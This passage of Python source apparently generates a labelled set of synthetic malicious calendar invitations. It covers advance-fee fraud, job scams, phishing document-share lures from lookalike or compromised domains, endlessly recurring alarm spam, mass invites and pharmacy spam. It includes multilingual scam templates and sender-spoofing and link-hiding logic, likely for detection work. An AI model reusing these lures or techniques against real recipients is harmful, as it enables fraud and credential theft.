            s.spf_result = rng.choice(['fail', 'softfail', 'none'])
            s.dmarc_force = ('NONE', 'NONE')
            s.env_domain = F.shady_domain(rng, ['mail'])
        else:
            s.frm = mk_person(s, domain=free_domain(s), free=True)
    V(s, sname=s.frm['name'], scompany=s.sorg[0] if s.sorg else '')
    s.summary = fill(s, t[0])
    s.desc = fill(s, t[1])
    s.payload = 'text'
    if rng.random() < .4:
        s.desc_only_ics = True
        s.body_text = ''
    attendees(s, 0)
    note(s, 'business e-mail compromise (%s pretext)' % role)


# ============================================================ 10 advance-fee fraud
AFF_EN = [
    ('Inheritance claim – US$8,500,000', 'Dear Beneficiary,\nI am Barrister {lawyer}, personal attorney to the late Mr. {lastname}, who died with his family in a car accident. He left a deposit of $8,500,000 with no next of kin. Contact me for details: {email2}'),
    ('UN Compensation Fund – payment approval', 'Your email was selected to receive $1,500,000 compensation. Contact the payment officer with your full name, address and phone number: {email2}'),
    ('Business proposal (strictly confidential)', 'Greetings, I am a senior banker. I have a lucrative proposal involving a dormant account worth $18.6M. Reply to {email2} for details.'),
    ('Donation from Mrs. {lastname}', 'I am a widow suffering from cancer. I want to donate $2.5 million to charity through you. Please reply to {email2}.'),
    ('Lottery Winning Notification – Ref {code}', 'Your email address won £850,000 in the international online draw. Contact our claims agent: {email2}'),
    ('ATM card delivery – ready for dispatch', 'Your ATM card loaded with $2.2M is ready. Pay the $165 courier fee to release it. Contact {email2} with your delivery address.'),
]
AFF_FX = {
    'ar': ('عرض عمل سري', 'تحية طيبة، أنا مدير بنك وأحتاج إلى شريك أجنبي لتحويل مبلغ 12 مليون دولار. يرجى الرد على {email2}'),
    'es': ('Herencia sin reclamar', 'Estimado/a, soy el abogado del fallecido Sr. {lastname}. Usted puede reclamar una herencia de 4,2 millones de euros. Escriba a {email2}'),
    'fr': ('Don de bienfaisance', "Je suis une veuve atteinte d'un cancer et je souhaite vous léguer 1 500 000 €. Contactez mon notaire : {email2}"),
    'pt': ('Prêmio de loteria internacional', 'Seu e-mail ganhou US$ 950.000. Entre em contato com o agente: {email2}'),
    'ru': ('Наследство без наследников', 'Здравствуйте! Я адвокат, мой клиент оставил 7,5 млн долларов без наследников. Свяжитесь со мной: {email2}'),
}


def aff(s):
    rng = s.rng
    set_times(s, days=(0, 10), hours=(6, 22), dur=(30, 60))
    lawyer = rng.choice(['James Okoro', 'Daniel Mensah', 'Paul Eze', 'Robert Kingsley', 'Ahmed Salisu'])
    last = rng.choice(['Hoffmann', 'Kowalski', 'Duarte', 'Fischer', 'Moreau', 'Lindgren', s.rcpt['addr'].split('@')[0].split('.')[-1].capitalize()])
    e2 = '%s%s@%s' % (rng.choice(['barr.', 'claims.', 'dr.', 'mrs.', 'agent.']), U.alnum(rng, 6, 'abcdefghijklmnopqrstuvwxyz'), rng.choice(['gmail.com', 'outlook.com', 'yahoo.com', 'mail.com', 'proton.me']))
    V(s, lawyer=lawyer, lastname=last, email2=e2)
    s.frm = brand_sender(s, rng.choice([lawyer, 'Mrs. ' + P.person(rng, 'en')[0], 'Claims Department', 'UN Payment Office', 'Foreign Remittance']))
    s.reply_to = e2 if rng.random() < .6 else None
    t = PICK.pick(s, 'aff', AFF_EN, AFF_FX)
    s.summary = fill(s, t[0])
    s.desc = fill(s, t[1])
    s.payload = 'reply-address'
    if rng.random() < .3:
        s.location = e2
    note(s, 'advance-fee fraud, contact by e-mail')


# ============================================================ 11 task / job scams
TASK_EN = [
    ('Remote job offer – $300/day', 'Hi {first}, our HR team reviewed your profile. We offer flexible part-time work rating products online, 60–90 minutes a day, $200–$500 daily.\nContact our recruiter on WhatsApp: {wa}'),
    ('Interview invitation – Online Assistant', 'We found your CV on a job platform. The role is fully remote. Add our HR manager on Telegram to schedule: {tg}'),
    ('Part-time opportunity (no experience needed)', 'Complete simple app-boosting tasks and get paid instantly in USDT. Start today: {tg}'),
    ('Next step of your application', "Thank you for applying. Next step: a short onboarding chat with our coordinator on WhatsApp {wa}. Please save the number and send 'Hi'."),
    ('Hiring: product reviewer – $50 per task', 'Slots are limited this week. Message our team on WhatsApp {wa} to get your first 3 tasks.'),
    ('Flexible work from home – daily payout', 'Hello! We are a digital marketing agency looking for part-time staff. Simple tasks, daily payout. Contact HR: {tg}'),
]
TASK_FX = {
    'hi': ('घर बैठे कमाएं ₹5000 प्रतिदिन', 'पार्ट-टाइम काम: वीडियो लाइक करें और रोज़ भुगतान पाएं। WhatsApp करें: {wa}'),
    'zh': ('兼职招聘 日结300-800元', '手机操作 时间自由 无需经验。请添加HR Telegram：{tg}'),
    'th': ('รับสมัครงานออนไลน์ รายได้วันละ 1,500 บาท', 'งานง่าย ทำที่บ้านได้ ติดต่อ LINE: {line}'),
    'tr': ('Evden çalışma fırsatı – günlük 1.500 TL', 'Basit görevler, anında ödeme. WhatsApp üzerinden iletişime geçin: {wa}'),
    'he': ('משרה מהבית – 400 ₪ ליום', 'עבודה פשוטה בדירוג מוצרים. צרו קשר בוואטסאפ: {wa}'),
    'el': ('Εργασία από το σπίτι – έως 150 € την ημέρα', 'Απλές εργασίες αξιολόγησης προϊόντων. Επικοινωνήστε στο WhatsApp: {wa}'),
}


def task(s):
    rng = s.rng
    set_times(s, days=(0, 5), hours=(9, 20), dur=(15, 45))
    V(s, line='https://line.me/ti/p/~' + F.slug(rng, 8))
    agency = rng.choice(['TalentBridge Staffing', 'Apex Recruitment', 'Global Remote Careers', 'Bright Future HR', 'Nexus Digital Agency'])
    s.frm = brand_sender(s, rng.choice([agency, 'HR Department', P.person(rng, 'en')[0] + ' | Recruiter', P.person(rng, s.lang)[0]]),
                         F.shady_domain(rng, ['careers-remote', 'talent-hr', 'jobs-online']))
    t = PICK.pick(s, 'task', TASK_EN, TASK_FX)
    s.summary = fill(s, t[0])
    s.desc = fill(s, t[1])
    v = V(s)
    msg = v['wa'] if '{wa}' in t[1] else (v['tg'] if '{tg}' in t[1] else v['line'])
    if rng.random() < .4:
        s.location = msg
    if rng.random() < .3 and msg.startswith('http'):
        s.conf_prop = {'url': msg, 'label': 'Chat'}
    s.payload = 'messenger'
    note(s, 'task / job scam moving victim to a messenger')


# ============================================================ 12 document-share lures from compromised partner mailboxes
DOC_EN = [
    ('{scompany} – Proposal Documents', 'Hi,\nPlease find the proposal documents for your review via the secure link below.\nVIEW DOCUMENTS: {url}\nBest regards,\n{sname}\n{scompany}'),
    ('RFQ {code} – request for quotation', 'Good afternoon,\nWe are requesting a quotation for the attached list of items. Kindly review and revert by {date}.\n{url}\nRegards,\n{sname}'),
    ('Remittance advice – payment {code}', 'Hello, please see the remittance advice for the payment released today. Sign in with your email to view.\n{url}'),
    ('{sname} shared "{scompany} Statement.pdf"', '{sname} shared a file with you.\nOpen: {url}\nThis link only works for the direct recipients of this message.'),
    ('Revised contract – please review before our call', 'Hi {first}, ahead of our meeting I uploaded the revised contract. Please review and sign: {url}\nThanks, {sname}'),
    ('Purchase order PO-{code}', 'Dear partner,\nAttached is our new purchase order. Please confirm availability and delivery date.\n{url}\n{sname}\nProcurement, {scompany}'),
]
DOC_FX = {
    'de': ('Angebotsunterlagen {scompany}', 'Guten Tag,\nanbei erhalten Sie unsere Angebotsunterlagen zur Durchsicht über den folgenden Link:\n{url}\nMit freundlichen Grüßen\n{sname}'),
    'pl': ('Faktura {code} – do akceptacji', 'Dzień dobry,\nprzesyłam fakturę do akceptacji. Dokument dostępny pod linkiem:\n{url}\nPozdrawiam,\n{sname}'),
    'el': ('Έγγραφα προσφοράς', 'Καλησπέρα σας,\nσας αποστέλλουμε τα έγγραφα της προσφοράς μέσω του παρακάτω συνδέσμου:\n{url}\n{sname}'),
    'tr': ('Sipariş dosyası – {scompany}', 'Merhaba,\nsipariş dosyamızı aşağıdaki bağlantıdan inceleyebilirsiniz:\n{url}\nSaygılarımızla,\n{sname}'),
    'he': ('מסמכים לחתימה', 'שלום,\nמצורפים המסמכים לחתימתך בקישור הבא:\n{url}\nבברכה,\n{sname}'),
    'th': ('ใบเสนอราคา {code}', 'เรียน ท่านผู้เกี่ยวข้อง\nกรุณาตรวจสอบเอกสารใบเสนอราคาตามลิงก์ด้านล่าง\n{url}\n{sname}'),
}


def docshare(s):
    rng = s.rng
    set_times(s, days=(0, 4), hours=(8, 17), dur=(30, 60))
    o = org_of(s, s.lang if rng.random() < .7 else 'en')
    s.sorg = o
    if s.kind == 'lookalike':
        s.frm = mk_person(s, domain=F.lookalike_of(rng, o[1]))
    elif s.kind == 'free':
        s.frm = mk_person(s, domain=free_domain(s), free=True)
    else:
        s.frm = mk_person(s, domain=o[1])
    V(s, sname=s.frm['name'], scompany=o[0])
    t = PICK.pick(s, 'doc', DOC_EN, DOC_FX)
    s.summary = fill(s, t[0])
    url = F.hosted(rng, rng.choice(['sharepoint', 'sharepoint', 'dropbox', 'notion', 'canva', 'firebase', 'gcs', 'pages', 'workers', 'ipfs']))
    m = place(s, t[1], url, [('desc', 4), ('xalt', 2), ('attach', 2), ('url', 1), ('hidden', 1)], 'VIEW DOCUMENT')
    attendees(s, rng.choice([0, 0, 1, 3]))
    if rng.random() < .4:
        s.atts += harvested(s, rng.randint(5, 30))
    note(s, 'document-share lure from a partner mailbox, link in %s' % m)


# ============================================================ 13 nagging payloads
NAG_EN = [
    ('Your iCloud storage is full – photos will be deleted', 'Upgrade now for $0.99 and keep your photos: {url}'),
    ('Virus detected! Your phone is infected (4)', 'Remove the threats immediately: {url}'),
    ('Claim your $1000 reward', 'Reminder: your reward is still waiting. Tap to claim: {url}'),
    ('Your subscription expired – renew now', 'Your protection ended. Renew to stay safe: {url}'),
    ('Apple ID locked', 'Your Apple ID has been locked for security reasons. Unlock: {url}'),
    ('You have (1) pending delivery', 'Confirm your delivery preferences: {url}'),
]
NAG_FX = {
    'zh': ('您的手机已感染病毒！', '立即清理：{url}'),
    'ja': ('【警告】ウイルスが検出されました', '今すぐスキャンしてください：{url}'),
    'ko': ('[알림] 택배 미수령 – 확인 필요', '배송 정보를 확인하세요: {url}'),
    'ru': ('Ваш iPhone заражён вирусами', 'Удалите угрозы сейчас: {url}'),
    'ar': ('تنبيه: تم قفل حسابك', 'قم بإلغاء القفل الآن: {url}'),
}


def nag(s):
    rng = s.rng
    style = rng.choice(['daily', 'hourly', 'alarms', 'farfuture', 'weekly-many'])
    if style == 'farfuture':
        set_times(s, days=(3000, 27000), hours=(0, 23), dur=(30, 60))
    elif style == 'daily' and rng.random() < .4:
        set_times(s, days=(20, 400), hours=(0, 23), dur=(15, 60), past=True)   # series "already running"
    else:
        set_times(s, days=(0, 2), hours=(0, 23), dur=(15, 60))
    t = PICK.pick(s, 'nag', NAG_EN, NAG_FX)
    s.frm = brand_sender(s, rng.choice(['iCloud', 'Security Center', 'Reminder', 'Apple Support', U.alnum(rng, 8), 'Notification']))
    s.summary = fill(s, t[0])
    url = rng.choice([F.shady_url(rng, ['icloud-storage', 'phone-clean', 'security-scan', 'renew-now']), F.hosted(rng)])
    m = place(s, t[1], url, [('desc', 4), ('location', 3), ('url', 2)], 'Fix now')
    if style in ('daily', 'farfuture'):
        s.rrule = 'FREQ=DAILY' if rng.random() < .6 else 'FREQ=DAILY;INTERVAL=1;COUNT=%d' % rng.choice([365, 999, 3650])
    elif style == 'hourly':
        s.rrule = 'FREQ=HOURLY;INTERVAL=%d' % rng.choice([1, 2, 3])
    elif style == 'weekly-many':
        s.rrule = 'FREQ=WEEKLY;BYDAY=MO,TU,WE,TH,FR,SA,SU'
    n = rng.choice([3, 6, 10, 20, 30])
    s.alarms = ['-PT%dM' % (i * rng.choice([1, 5, 10])) for i in range(n)] if style != 'farfuture' or rng.random() < .5 else ['-PT0M']
    if s.alarms and s.alarms[0] == '-PT0M' and len(s.alarms) > 1:
        s.alarms[0] = 'PT0S'
    if style == 'farfuture' and rng.random() < .5:
        s.allday = False
    note(s, 'nagging calendar payload (%s), link in %s' % (style, m))


# ============================================================ 14 mass invitations to unrelated attendees
MASS_EN = [
    ('FREE Webinar: How I make $10K/month from home', 'Join 500+ people learning the system. Spots are limited!\nRegister: {url}'),
    ('Crypto Masterclass – Live Q&A', 'Learn the secret strategy the banks do not want you to know. Free for the first 300 attendees.\n{url}'),
    ('Grand opening – iPhone giveaway', 'Come to our grand opening event and win one of 50 iPhones. RSVP now: {url}'),
    ('SEO & web design – 50% off this week', 'We help businesses rank #1 on Google. Book a free consultation: {url}'),
    ('Meet local singles – online speed dating', 'Tonight at 9pm. Free registration: {url}'),
    ('Exclusive VIP casino night – 200 free spins', 'Your VIP seat is reserved. Claim your bonus before the event: {url}'),
]
MASS_FX = {
    'zh': ('免费直播课：零基础月入三万', '已有上千人加入，扫码进群：{url}'),
    'ru': ('Бесплатный вебинар: заработок на маркетплейсах', 'Регистрация открыта только сегодня: {url}'),
    'th': ('สัมมนาฟรี! สร้างรายได้ออนไลน์', 'ลงทะเบียนด่วน ที่นั่งมีจำนวนจำกัด {url}'),
    'hi': ('फ्री वेबिनार: ऑनलाइन कमाई के 5 तरीके', 'सीमित सीटें! अभी रजिस्टर करें: {url}'),
}


def mass(s):
    rng = s.rng
    set_times(s, days=(0, 14), hours=(10, 21), dur=(60, 120))
    s.frm = brand_sender(s, rng.choice([P.person(rng, s.lang)[0], 'Events Team', 'Webinar Host', 'Promo', 'VIP Club']))
    t = PICK.pick(s, 'mass', MASS_EN, MASS_FX)
    s.summary = fill(s, t[0])
    url = rng.choice([F.shady_url(rng, ['webinar-free', 'casino-vip', 'seo-pro', 'earn-online']), F.hosted(rng), F.hosted(rng, 'forms')])
    m = place(s, t[1], url, [('desc', 4), ('location', 2), ('url', 1), ('conference', 1)], 'Register')
    n = rng.randint(120, 600)
    s.atts = [dict(s.rcpt, ps='NEEDS-ACTION', rsvp='TRUE')] + harvested(s, n)
    rng.shuffle(s.atts)
    if s.client in ('outlook', 'kit', 'thunderbird', 'zimbra', 'sogo') and rng.random() < .6:
        s.to = [{'name': a.get('name'), 'addr': a['addr']} for a in s.atts]
    elif rng.random() < .4:
        s.to = [{'name': '', 'addr': s.frm['addr']}]
    note(s, 'mass invitation to %d unrelated attendees, link in %s' % (n + 1, m))


# ============================================================ 15 health / pharma
HEALTH_EN = [
    ('Doctors stunned: 1 tsp melts belly fat', 'Try it risk-free today. 87% off for the first 100 customers:\n{url}'),
    ('Your weight-loss prescription is ready – no doctor visit', 'Order semaglutide online, discreet shipping in 48h:\n{url}'),
    ("Men's health: 80% off generic pills", 'From $0.79 per pill. No prescription needed. Worldwide delivery:\n{url}'),
    ('Tinnitus gone in 7 days?', 'A simple morning ritual that ended the ringing for 38,000 people:\n{url}'),
    ('CBD Gummies – claim your free bottle', 'Just pay shipping ({amt}). Limited offer:\n{url}'),
    ('Blood sugar breakthrough – watch before it is taken down', 'The video big pharma wants banned:\n{url}'),
]
HEALTH_FX = {
    'it': ('Dimagrire 10 kg in un mese', 'Il metodo naturale che i medici non ti dicono:\n{url}'),
    'pl': ('Lekarze w szoku: nowa metoda na stawy', 'Zamów teraz z rabatem 50%:\n{url}'),
    'el': ('Απώλεια βάρους χωρίς δίαιτα', 'Δοκιμάστε το σήμερα με έκπτωση 70%:\n{url}'),
    'tr': ('Diyabete son: doğal formül', 'Sınırlı stok, hemen sipariş verin:\n{url}'),
}


def health(s):
    rng = s.rng
    set_times(s, days=(0, 7), hours=(6, 23), dur=(15, 60))
    V(s, amt=F.money(rng, 'en', 4.95, 9.95))
    s.frm = brand_sender(s, rng.choice(['Health News', 'Dr. ' + P.person(rng, 'en')[0].split()[-1], 'Wellness Store', 'Pharmacy Online', P.person(rng, s.lang)[0]]),
                         F.shady_domain(rng, ['keto-burn', 'rx-online', 'wellness-tips', 'cbd-shop']))
    t = PICK.pick(s, 'health', HEALTH_EN, HEALTH_FX)
    s.summary = fill(s, t[0])
    url = rng.choice([F.shady_url(rng, ['keto-burn', 'rx-online', 'healthnews-today', 'cbd-gummies']), F.hosted(rng)])
    m = place(s, t[1], url, [('desc', 4), ('location', 2), ('url', 1), ('xalt', 2), ('hidden', 1)], 'Order now')
    if rng.random() < .4:
        s.atts = [dict(s.rcpt, ps='NEEDS-ACTION', rsvp='TRUE')] + harvested(s, rng.randint(5, 60))
    note(s, 'health / pharma spam, link in %s' % m)


ALLC = ['google', 'outlook', 'apple', 'thunderbird', 'zoom', 'nextcloud', 'zimbra', 'yahoo', 'sogo', 'booking', 'list', 'kit']


def C(*exclude):
    return [c for c in ALLC if c not in exclude]


CATEGORIES = [
    dict(name='retail-sale', n=11, langs=['de', 'fr', 'it', 'zh', 'ja', 'zht'], fn=retail, years=(2016, 2026), clients=C('zoom'),
         desc='Retail sale waves (fake brand outlet shops) sent as invitations', kinds={'free': 5, 'compromised': 2, 'lookalike': 2, 'vps': 2, 'esp': 1}),
    dict(name='prize-survey', n=11, langs=['de', 'fr', 'es', 'pt', 'pl', 'ar'], fn=prize, clients=C(),
         desc='Prize, survey and gift-card lures', kinds={'free': 4, 'lookalike': 3, 'compromised': 2, 'vps': 2, 'esp': 2, 'service': 1}),
    dict(name='crypto-investment', n=11, langs=['ru', 'ar', 'tr', 'ko', 'hi', 'zht'], fn=crypto, years=(2017, 2026), clients=C(),
         desc='Crypto and investment fraud', kinds={'free': 4, 'lookalike': 3, 'compromised': 2, 'vps': 1, 'esp': 1, 'service': 1}),
    dict(name='dating-sextortion', n=10, langs=['de', 'fr', 'ru', 'es', 'th'], fn=dating, clients=C('booking'),
         desc='Dating lures and sextortion demands', kinds={'free': 5, 'vps': 3, 'compromised': 2, 'lookalike': 1, 'service': 1}),
    dict(name='fee-scam', n=12, langs=['de', 'fr', 'es', 'nl', 'pt', 'el', 'he', 'ja'], fn=fee, clients=C(),
         desc='Delivery, toll, tax and traffic-fine fee scams', kinds={'lookalike': 4, 'free': 3, 'vps': 3, 'compromised': 2, 'esp': 2, 'service': 1}),
    dict(name='brand-phishing', n=12, langs=['de', 'fr', 'it', 'ko', 'ja', 'es'], fn=phish, clients=C(),
         desc='Credential phishing under big brands, banks and government', kinds={'lookalike': 4, 'compromised': 4, 'free': 2, 'esp': 2, 'vps': 2, 'service': 1}),
    dict(name='callback-scam', n=10, langs=['fr', 'nl', 'hi', 'it'], fn=callback, clients=C(),
         desc='Tech-support and subscription-renewal callback scams (phone number only)', kinds={'free': 5, 'compromised': 2, 'lookalike': 1, 'vps': 1, 'esp': 1, 'service': 1}),
    dict(name='fake-update', n=10, langs=['de', 'ru', 'pt', 'ko'], fn=update, years=(2019, 2026), clients=C(),
         desc='Fake meeting-client updates and paste-this-command lures', kinds={'compromised': 4, 'lookalike': 3, 'free': 2, 'vps': 1, 'service': 1}),
    dict(name='bec', n=11, langs=['de', 'fr', 'es', 'it', 'nl', 'zh'], fn=bec, clients=C('zoom', 'booking'),
         desc='Business e-mail compromise: CEO fraud, gift cards, bank-detail and payroll changes', kinds={'lookalike': 4, 'free': 3, 'compromised': 3, 'vps': 2}),
    dict(name='advance-fee', n=10, langs=['ar', 'es', 'fr', 'pt', 'ru'], fn=aff, clients=C('booking'),
         desc='Advance-fee fraud (inheritance, lottery, compensation)', kinds={'free': 4, 'vps': 4, 'compromised': 2, 'service': 1}),
    dict(name='task-job-scam', n=11, langs=['hi', 'zh', 'th', 'tr', 'he', 'el'], fn=task, years=(2020, 2026), clients=C(),
         desc='Task and job scams moving victims to messengers', kinds={'free': 5, 'lookalike': 2, 'compromised': 2, 'vps': 1, 'esp': 1, 'service': 1}),
    dict(name='compromised-docshare', n=11, langs=['de', 'pl', 'el', 'tr', 'he', 'th'], fn=docshare, clients=C(),
         desc='Document-share lures from compromised partner mailboxes', kinds={'compromised': 7, 'lookalike': 2, 'free': 1, 'service': 1}),
    dict(name='nagging-payload', n=10, langs=['zh', 'ja', 'ko', 'ru', 'ar'], fn=nag, clients=C('zoom'),
         desc='Nagging payloads: endless recurrence, many alarms, far-future dates', kinds={'free': 5, 'vps': 2, 'compromised': 1, 'lookalike': 1, 'esp': 1}),
    dict(name='mass-invite', n=10, langs=['zh', 'ru', 'th', 'hi'], fn=mass, clients=C(),
         desc='Mass invitations to hundreds of unrelated attendees', kinds={'free': 5, 'compromised': 3, 'lookalike': 1, 'vps': 1, 'esp': 1, 'service': 1}),
    dict(name='health-pharma', n=10, langs=['it', 'pl', 'el', 'tr'], fn=health, clients=C(),
         desc='Health, diet and pharmacy spam', kinds={'free': 4, 'compromised': 2, 'vps': 2, 'lookalike': 2, 'esp': 1}),
]
